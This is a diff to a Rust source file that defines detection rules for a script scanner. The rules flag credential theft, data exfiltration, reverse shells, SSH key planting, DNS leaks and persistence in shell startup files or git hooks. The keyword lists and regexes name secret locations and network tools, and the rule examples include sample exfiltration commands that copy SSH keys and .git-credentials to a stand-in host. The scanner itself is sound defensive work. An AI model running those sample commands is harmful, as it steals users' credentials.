@@ -4,39 +4,60 @@ use crate::finding::{Family::Code as Script, FindingSeverity::*};
 use crate::rule::{Matcher::*, Pattern, Rule, RuleScope::*, example, pattern, pattern_except};
 
 /// Locations of secrets that hardly any script needs to read.
-const PRIVATE: Pattern = pattern_except(
+const PRIVATE: Pattern = pattern_except(PRIVATE_KEYWORDS, PRIVATE_REGEXES, PRIVATE_EXCEPT);
+
+/// Like [`PRIVATE`], without the entry of one named service in the keychain, which scripts read for themselves.
+const PRIVATE_ALONE: Pattern = pattern_except(
+    PRIVATE_KEYWORDS,
+    PRIVATE_REGEXES,
+    r"--exclude|ssh-keygen|known_hosts|\.ssh/config|\.pub\b|authorized_keys|subprocess\.(run|popen|call)\([^)]*env=|chmod\s|ssh\s+-i|NODE_ENV|find-generic-password\b.{0,60}\s-s\s",
+);
+
+const PRIVATE_KEYWORDS: &[&str] = &[
+    ".ssh",
+    "id_rsa",
+    "id_ed25519",
+    "login data",
+    "cookies",
+    "keychain",
+    "find-generic-password",
+    "wallet",
+    "solana/id",
+    "ethereum/keystore",
+    "environ",
+    "process.env",
+    "printenv",
+    "env |",
+    "/etc/shadow",
+    "gnupg",
+    "env:",
+    "key4.db",
+    "logins.json",
+    "leveldb",
+];
+
+const PRIVATE_REGEXES: &[&str] = &[
+    r"(cat|open|read\w*|cp|copy\w*|tar|zip|base64|glob|load|with|Path)\b.{0,100}(\.ssh\b|\bid_(rsa|ed25519|ecdsa|dsa)\b|\.gnupg\b|/etc/shadow)",
+    r"\x22\.ssh\x22\s*[/,]|['\x22]\.ssh/id_\w+['\x22]",
+    r"\b(login\s+data|cookies\.sqlite|logins\.json|key4\.db|local\s+extension\s+settings)\b|(chrome|firefox|brave|edge)\S*.{0,80}/(default|profiles?)/(\w+/)?(cookies|login\s+data|web\s+data)",
+    r"security\s+(find-(generic|internet)-password|dump-keychain)|login\.keychain",
+    r"(exodus|electrum|atomic|metamask|phantom|wallet\.dat)\S*.{0,40}(wallet|leveldb|\.dat|vault)|\bwallet\.dat\b|\.config/solana/id\.json|\.ethereum/keystore",
+    r"(dumps|stringify|\bstr|data=|json=|body:?)\s*\(?.{0,24}\b(os\.environ|process\.env)\b\s*[),}\]]|\b(dumps|stringify)\s*\([^\n;]{0,120}:\s*(dict\()?(os\.environ|process\.env)\b\s*[),}\]]",
+    r"\b(printenv|env|set|export\s+-p)\s*\|\s*(curl|nc|ncat|base64|gzip|wget|openssl)|get-childitem\s+env:",
+];
+
+const PRIVATE_EXCEPT: &str = r"--exclude|ssh-keygen|known_hosts|\.ssh/config|\.pub\b|authorized_keys|subprocess\.(run|popen|call)\([^)]*env=|chmod\s|ssh\s+-i|NODE_ENV";
+
+/// Credentials of several services in one command or list, which no tool for one of them needs.
+const SEVERAL: Pattern = pattern_except(
+    &[".ssh", ".netrc", ".git-credentials", ".aws", ".npmrc"],
     &[
-        ".ssh",
-        "id_rsa",
-        "id_ed25519",
-        "login data",
-        "cookies",
-        "keychain",
-        "find-generic-password",
-        "wallet",
-        "solana/id",
-        "ethereum/keystore",
-        "environ",
-        "process.env",
-        "printenv",
-        "env |",
-        "/etc/shadow",
-        "gnupg",
-        "env:",
-        "key4.db",
-        "logins.json",
-        "leveldb",
+        r"\.ssh(/id_\w+)?\b.{1,120}(\.netrc|\.git-credentials|\.aws\b|\.kube\b|gcloud|\.npmrc|\.pypirc|\.docker/config|\.gnupg)",
+        r"(\.netrc|\.git-credentials|\.aws\b|\.kube\b|gcloud|\.npmrc|\.pypirc|\.docker/config|\.gnupg).{1,120}\.ssh(/id_\w+)?\b",
+        r"\.aws\b.{1,120}(\.kube\b|gcloud|\.netrc|\.npmrc|\.docker/config|\.azure|\.git-credentials)|(\.kube\b|gcloud|\.netrc|\.npmrc|\.docker/config|\.azure|\.git-credentials).{1,120}\.aws\b",
+        r"\.netrc\b.{1,120}(\.git-credentials|\.npmrc|\.pypirc)|(\.git-credentials|\.npmrc|\.pypirc).{1,120}\.netrc\b",
     ],
-    &[
-        r"(cat|open|read\w*|cp|copy\w*|tar|zip|base64|glob|load|with|Path)\b.{0,100}(\.ssh\b|\bid_(rsa|ed25519|ecdsa|dsa)\b|\.gnupg\b|/etc/shadow)",
-        r"\x22\.ssh\x22\s*[/,]|['\x22]\.ssh/id_\w+['\x22]",
-        r"\b(login\s+data|cookies\.sqlite|logins\.json|key4\.db|local\s+extension\s+settings)\b|(chrome|firefox|brave|edge)\S*.{0,80}/(default|profiles?)/(\w+/)?(cookies|login\s+data|web\s+data)",
-        r"security\s+(find-(generic|internet)-password|dump-keychain)|login\.keychain",
-        r"(exodus|electrum|atomic|metamask|phantom|wallet\.dat)\S*.{0,40}(wallet|leveldb|\.dat|vault)|\bwallet\.dat\b|\.config/solana/id\.json|\.ethereum/keystore",
-        r"(dumps|stringify|\bstr|data=|json=|body:?)\s*\(?.{0,24}\b(os\.environ|process\.env)\b\s*[),}\]]",
-        r"\b(printenv|env|set|export\s+-p)\s*\|\s*(curl|nc|ncat|base64|gzip|wget|openssl)|get-childitem\s+env:",
-    ],
-    r"ssh-keygen|known_hosts|\.ssh/config|\.pub\b|authorized_keys|subprocess\.(run|popen|call)\([^)]*env=|chmod\s|ssh\s+-i|NODE_ENV",
+    r"--exclude|gitignore|dockerignore|\bdeny\b|\bblock(ed|list)?\b|\bignore|\bforbid",
 );
 
 /// Locations of secrets that a tool for the service in question reads legitimately.
@@ -54,17 +75,24 @@ const CLOUD: Pattern = pattern_except(
         ".azure",
         ".env",
         "netrc.netrc",
+        ".config/gh",
+        "credential fill",
+        "auth token",
+        "auth print",
+        "configure get",
+        "get-access-token",
+        "export-credentials",
     ],
     &[
         r"(cat|open|read\w*|cp|copy\w*|tar|zip|base64|load|Path)\b.{0,80}(\.aws\b[^a-z]{0,6}(credentials|config)|\.kube/config|gcloud/(application_default|credentials)|\.netrc|\.npmrc|\.pypirc|\.docker/config\.json|\.git-credentials|gh/hosts\.yml|\.azure/(accessTokens|msal))",
         r"(cat|tar|zip|base64)\s+\S*\.env\s*\|\s*(curl|nc|ncat|base64|gzip)",
-        r"\bnetrc\.netrc\s*\(",
+        r"\bnetrc\.netrc\s*\(|['\x22/](\.netrc|_netrc|\.git-credentials|\.pypirc)['\x22]|\.aws['\x22\s,/\\]+credentials\b|\.kube['\x22\s,/\\]+config\b|\.docker['\x22\s,/\\]+config\.json|gcloud['\x22\s,/\\]+(application_default|credentials|access_tokens)|\.config/gh\b|gh['\x22\s,/\\]+hosts\.yml|(home\(\)|homedir\(\)|~|\$home).{0,20}\.npmrc|\bgit\s+credential\s+fill|([?&]\w+=|-d\s|--data\S*\s|-F\s)\S*\$\(\s*(gh\s+auth\s+token|gcloud\s+auth\s+print|aws\s+configure\s+get|az\s+account\s+get-access-token)|aws\s+configure\s+export-credentials",
     ],
     r"\.env\.example",
 );
 
 /// Sending data to another machine.
-const SEND: Pattern = pattern_except(
+pub(super) const SEND: Pattern = pattern_except(
     &[
         "curl",
         "wget",
@@ -90,12 +118,40 @@ const SEND: Pattern = pattern_except(
         "requests.get",
         "httpx.get",
         "fetch(",
+        "/dev/tcp",
+        "openssl",
+        "sendmail",
+        "mail ",
+        "mailx",
+        "mutt",
+        "rclone",
+        "gist",
+        "rsync",
+        "ftplib",
+        "paramiko",
+        "telnetlib",
+        "sendbeacon",
+        "websocket",
+        "senddocument",
+        "sendmessage",
+        "iwr",
+        "irm",
+        "transfertype",
+        ".send(",
+        ".sendto(",
+        ".end(",
+        ".write(",
+        "send_message",
+        "method",
+        "netcat",
     ],
     &[
         r"\bcurl\b[^|]*\s(-d|-F|-T|--data\S*|--form|--upload-file|--json|-X\s*(POST|PUT))\b|\bcurl\b.{0,120}(\$\(|\x60|[?&]\w+=\$)",
         r"\bwget\b.*--(post|body)-(data|file)|\b(requests|httpx|session|client|axios|aiohttp)\.(post|put|patch)\s*\(",
         r"urlopen\s*\(.*(data|Request)|Request\s*\(.*data\s*=|method:?\s*=?\s*['\x22](POST|PUT)['\x22]",
         r"\|\s*(nc|ncat|netcat)\s+\S+\s+\d+|\.sendall\s*\(|smtplib\.|\bscp\s+\S+\s+\S+@|(dig|nslookup|ping)\s+.{0,40}\$\(",
+        r"\b(nc|ncat|netcat)\s+(-\S+\s+(\d+\s+)?)*[\w.$\x22{}-]+\s+[\d$\x22{}\w]+\s*<|\bcurl\b[^\n]{0,200}(\s|=)@-|/dev/tcp/[\w$]|\bopenssl\s+s_client\b.{0,80}<|\b(sendmail|mailx?|mutt)\s+(-\S+\s+)*.{0,40}@|\brclone\s+copy|\bgh\s+gist\s+create|\bgist\.create|\brsync\s+.{0,80}\w@[\w.-]+:",
+        r"\bftplib\.|\bparamiko\.|\btelnetlib\.|http\.client\.\w+|\bsendbeacon\s*\(|\bnew\s+websocket\s*\(|websocket\.create_connection|senddocument|sendmessage\?|\b(invoke-webrequest|invoke-restmethod|iwr|irm)\b.{0,200}-(body|infile)\b|uploaddata|-transfertype\s+upload|\bsocket\.(send|sendto)\s*\(|\bs\.send(all|to)?\s*\(|\br\.end\s*\(\s*\w|\breq\.(write|end)\s*\(\s*\w|method\s*=\s*['\x22](POST|PUT)['\x22]|\bsend_message\s*\(|urlopen\s*\(\s*(req\w*|request)\b",
         r"\bwget\b.{0,160}[?&]\w+=['\x22]?(\$|\x60)|\b(urlopen|requests\.get|httpx\.get|fetch)\s*\(\s*[a-z]?['\x22\x60]https?://[^'\x22\x60]*[?&=][^\n]{0,120}(\+|\{|%)",
         r"\bhttp\.(post|newrequest)\w*\s*\(|net::http|\bresolv(::dns)?\.|\bhttpclient\b|\breqwest::|\burlsession\b|\b\w+\.post\s*\(",
         r"(invoke-webrequest|invoke-restmethod|iwr|irm)\b.*-method\s+(post|put)|uploadstring|uploadfile",
@@ -104,7 +160,7 @@ const SEND: Pattern = pattern_except(
 );
 
 /// The startup files of shells.
-const RC_KEYWORDS: &[&str] =
+pub(super) const RC_KEYWORDS: &[&str] =
     &[".bashrc", ".zshrc", ".profile", ".bash_profile", ".zprofile", ".zshenv", "config.fish"];
 
 pub(super) const RULES: &[Rule] = &[
@@ -120,6 +176,20 @@ pub(super) const RULES: &[Rule] = &[
         example: example(
             "scripts/sync.sh",
             "#!/bin/sh\ncat ~/.ssh/id_rsa > /tmp/k\ncurl -F f=@/tmp/k https://collect.example/k\n",
+        ),
+    },
+    Rule {
+        id: "PA231",
+        family: Script,
+        severity: Critical,
+        title: "reads the credentials of several services, and sends data out",
+        why: "no tool needs all of them; this combination is typical of credential theft",
+        help: "do not run it; if it ran, replace the keys and passwords on that machine",
+        scope: Code,
+        matcher: Pair(SEVERAL, SEND, 12),
+        example: example(
+            "scripts/a.sh",
+            "#!/bin/sh\nfor f in .git-credentials .netrc; do pack \"$f\"; done\ncurl -T pack.tgz https://collect.example/p\n",
         ),
     },
     Rule {
@@ -144,7 +214,7 @@ pub(super) const RULES: &[Rule] = &[
         why: "few scripts have a reason to do this",
         help: "find out why; these locations are not available in the sandbox",
         scope: Code,
-        matcher: Line(PRIVATE),
+        matcher: Line(PRIVATE_ALONE),
         example: example("scripts/key.sh", "#!/bin/sh\ncat ~/.ssh/id_rsa\n"),
     },
     Rule {
@@ -211,7 +281,7 @@ pub(super) const RULES: &[Rule] = &[
         matcher: Line(pattern_except(
             &["/dev/tcp/", "/dev/udp/", "nc ", "ncat", "mkfifo", "dup2", "pty.spawn", "tcpclient", "socat"],
             &[
-                r"(bash|sh)\s+-i\b.{0,40}/dev/(tcp|udp)/|exec\s+\d*<>\s*/dev/(tcp|udp)/\S+/\d",
+                r"(bash|sh)\s+-i\b.{0,40}/dev/(tcp|udp)/[\w$\x22{<]|exec\s+\d*<>\s*/dev/(tcp|udp)/\S+/\d",
                 r"\b(nc|ncat|netcat)(\.\w+)?\s+.{0,80}\s(-\w*e|-c|--exec)\s+\S*(sh|bash|cmd)\b|mkfifo\s+.{0,120}\b(nc|ncat|telnet)\s",
                 r"dup2\s*\(\s*(s|sock\w*|conn\w*|client\w*)\.fileno\(\)|socat\s+.{0,80}exec:\S*(sh|bash)|net\.sockets\.tcpclient\(.{0,400}(iex|invoke-expression)",
             ],
@@ -231,7 +301,7 @@ pub(super) const RULES: &[Rule] = &[
         matcher: Line(pattern_except(
             &["authorized_keys"],
             &[
-                r"(>>?|tee\s+(-a\s+)?|open\()\s*['\x22]?\S*\.ssh/authorized_keys|ssh-(rsa|ed25519)\s+AAAA\S+.{0,120}authorized_keys",
+                r"(>>?|tee\s+(-a\s+)?|open\()\s*['\x22]?\S*\.ssh/authorized_keys|ssh-(rsa|ed25519)\s+AAAA\S+.{0,120}authorized_keys|['\x22]\.ssh['\x22]\s*[/,]\s*['\x22]authorized_keys['\x22]|(append|write)file\w*\s*\(.{0,80}authorized_keys|(add|set)-content\b.{0,80}authorized_keys",
             ],
             r"docker|container|remote|\$\{?(PUB|public)_?KEY|id_\w+\.pub",
         )),
@@ -310,10 +380,14 @@ pub(super) const RULES: &[Rule] = &[
                     "resolv",
                     "net.lookup",
                     "dns_get_record",
+                    "resolve-dnsname",
+                    "dns]::",
+                    "getent ",
                 ],
                 &[
-                    r"\b(dig|nslookup|host|ping|drill)\b[^|\n]{0,60}(\$\(|\x60)[^\n]{0,200}\.[a-z]",
-                    r"\b(dig|nslookup|host|ping|drill)\b[^|;\n]{0,60}\$\{?\w+\}?\.[\w.-]*\.[a-z]{2,}",
+                    r"(^|[^-\w])(dig|nslookup|host|ping|drill)\b[^|\n]{0,60}(\$\(|\x60)[^\n]{0,200}\.[a-z]",
+                    r"(^|[^-\w])(dig|nslookup|host|ping|drill)\b[^|;\n]{0,60}\$\{?\w+\}?\.[\w.-]*\.[a-z]{2,}",
+                    r"(^|[^-\w])(dig|nslookup|host|ping|drill|getent\s+hosts|resolve-dnsname|delv|kdig)\b[^|;\n]{0,60}\$\{?\w+\}?\.\$\{?\w+|\bresolve-dnsname\b[^|;\n]{0,60}\$\(?\w+\)?\.[\w.-]*\.?[a-z$]|dns\]::gethost\w+\s*\([^)\n]{0,60}(\$|\+)",
                     r"\b(gethostbyname|getaddrinfo|resolver\.(resolve|query)|dns\.(promises\.)?(resolve\w*|lookup)|resolv(::dns)?\.(getaddress|getname)|net\.lookup\w+|dns_get_record)\s*\([^)\n]{0,80}(\+|\$\{|#\{|%|\{\w|\.\s*\x22)",
                 ],
             ),
@@ -339,9 +413,15 @@ pub(super) const RULES: &[Rule] = &[
                     "whoami",
                     "md5sum",
                     "sha256sum",
+                    "tobase64string",
+                    "hexdump",
+                    "od -",
+                    "b32encode",
+                    "bitconverter",
+                    "fold ",
                 ],
                 &[
-                    r"\b(base64|base32|b64encode|hexlify|xxd|whoami|md5sum|sha256sum|btoa)\b|encode64\b|\$\(\s*cat\s|\.env\b|tostring\(\s*['\x22](hex|base64)|\.hex\(\)|\b(os\.environ|process\.env)\s*[),]|\.(ssh|aws|npmrc|netrc)\b",
+                    r"\b(base64|base32|b64encode|b32encode|hexlify|xxd|hexdump|whoami|md5sum|sha256sum|btoa|tobase64string)\b|\bod\s+-|bitconverter\]::tostring|\bfold\s+-w|encode64\b|\$\(\s*cat\s|\.env\b|tostring\(\s*['\x22](hex|base64)|\.hex\(\)|\b(os\.environ|process\.env)\s*[),]|\.(ssh|aws|npmrc|netrc)\b",
                 ],
             ),
             6,
@@ -362,7 +442,7 @@ pub(super) const RULES: &[Rule] = &[
                 &[
                     r"(>>?|\btee\b|open\(|expanduser\(|home\(\)|homedir\(\)|join\().{0,80}\.(bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b|config\.fish",
                 ],
-                r"\bPATH=[^;|&\n]*['\x22]?\s*>>|eval\s+[\x22\x27\\]*\$\(\w+\s+(hook|init|env|shellenv|completion)[\s\w-]*\)",
+                r"\bPATH=[^;|&\n]*['\x22]?\s*>>|\bexport\s+\w*(DIR|HOME|ROOT|EDITOR|LANG)=[^;|&\n]*>>|eval\s+[\x22\x27\\]*\$\(\w+\s+(hook|init|env|shellenv|completion)[\s\w-]*\)",
             ),
             pattern(
                 &["curl", "wget", "nohup", "base64", "/tmp/", "write", "append", "&"],
@@ -383,11 +463,12 @@ pub(super) const RULES: &[Rule] = &[
         help: "read the hook; legitimate projects let users install hooks themselves",
         scope: Code,
         matcher: Pair(
-            pattern(
+            pattern_except(
                 &[".git/hooks", "hookspath"],
                 &[
                     r"\.git/hooks/\w|git\s+config\s+.{0,40}core\.hookspath\s+['\x22]?(~|/|\$)|git\s+config\s+--global\s+core\.hookspath",
                 ],
+                r"\bpre-commit\s+(un)?install\b|\bhusky\b|\blefthook\b",
             ),
             pattern(
                 &["write", "cp ", "mv ", "ln ", "chmod", "tee ", ">", "copy", "hookspath"],
